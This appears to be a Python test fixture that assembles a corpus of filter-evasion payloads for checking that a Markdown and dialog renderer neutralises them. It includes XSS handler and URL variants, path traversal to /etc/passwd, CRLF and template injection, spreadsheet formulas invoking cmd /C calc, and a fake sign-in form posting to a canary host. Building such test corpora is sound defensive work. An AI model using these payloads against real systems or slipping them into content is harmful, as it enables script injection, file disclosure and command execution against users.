"""More ways to write the same attack: spelling, spacing, encodings, namespaces and what Markdown or a name makes of them.

Each number is said by the dialog or asked of canary.example, so that what ran can be told.
"""

from tests.journeys.payloads import PAYLOADS

# Elements that can hold a handler, and one handler each that needs no hand.
CARRIERS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "iframe",
    "object data=x",
    "marquee",
    "select autofocus",
    "form",
)
EVENTS = ("error", "load", "focus", "toggle", "start", "animationstart", "pointerover", "begin")
SPELLINGS = (
    "<{element} on{event}=alert({number})>",
    "<{element}\tON{event}\n=\nalert({number})>",
    '<{element}/on{event}="alert({number})"//',
    "<{element} on{event}='alert`{number}`' >",
    "<{element} x=`>` on{event}=alert({number})>",
    "<{element} on{event}=&#x61;lert&lpar;{number}&rpar;>",
)
NUMBERED_FROM = 100


def _spelled() -> list[str]:
    """Every carrier with every spelling; the events take turns."""
    made: list[str] = []
    for place, element in enumerate(CARRIERS):
        for turn, spelling in enumerate(SPELLINGS):
            number = NUMBERED_FROM + len(made)
            event = EVENTS[(place + turn) % len(EVENTS)]
            made.append(spelling.format(element=element, event=event, number=number))
    return made


# What would lead somewhere or load something, written so that a filter of words might miss it.
ADDRESSES = tuple(
    form.format(address=address)
    for form in ("[x]({address})", "<{address}>", "![x]({address})", '[x]: {address} "t"\n\n[x]')
    for address in (
        "java\tscript:alert(200)",
        "JaVaScRiPt:alert(201)",
        "&#106;avascript:alert(202)",
        "javascript&colon;alert(203)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgyMDQpPC9zY3JpcHQ+",
        "vbscript:alert(205)",
        "//canary.example/206",
        "http://canary.example/207.png",
        "file:///etc/passwd",
        "blob:http://canary.example/208",
    )
)
# Names of files, and texts that a template, a spreadsheet, a mail or a terminal could take for its own.
NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a.png\x00.html",
    "con.png",
    'x.svg" onload="alert(210)',
    "<img src=x onerror=alert(211)>.png",
    "a.png' onerror='alert(212)",
    "%3Cscript%3Ealert(213)%3C/script%3E.csv",
    "evil\u202egnp.html",
    "name\r\nContent-Type: text/html",
    "${alert(214)}",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "#{7*7}",
    "%(secret)s",
    "{0.__class__.__mro__}",
    '=HYPERLINK("http://canary.example/215","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\x1b]8;;http://canary.example/216\x07x\x1b]8;;\x07",
)
MARKS = (
    "::: question x onclick=alert(220)\n<b>x</b>\n:::",
    "::: note <img src=x onerror=alert(221)>\nx\n:::",
    '[x]{lang="en" onmouseover="alert(222)"}',
    "![x](media/a.png){onload=alert(223)}",
    "[^1]\n\n[^1]: <img src=x onerror=alert(224)>",
    "Term\n: <svg onload=alert(225)>",
    "| <img src=x onerror=alert(226)> |\n|---|\n| x |",
    "```<img src=x onerror=alert(227)>\nx\n```",
    "`<img src=x onerror=alert(228)>`",
    "<!-- --!><img src=x onerror=alert(229)>",
    "<![CDATA[<img src=x onerror=alert(230)>]]>",
    "<?php alert(231) ?><img src=x onerror=alert(231)>",
    '<math><mi xlink:href="javascript:alert(232)">x',
    '<svg><a xlink:href="javascript:alert(233)"><text>x',
    "<svg><style><img src=x onerror=alert(234)></style>",
    "<form action=http://canary.example/235><button>Sign in</button></form>",
    "<base href=http://canary.example/236/>",
    "<isindex action=javascript:alert(237) type=image>",
    "\u0130<script>alert(238)</script>",
    "＜script＞alert(239)＜/script＞",
)
CORPUS = tuple(dict.fromkeys((*PAYLOADS, *_spelled(), *ADDRESSES, *NAMES, *MARKS)))
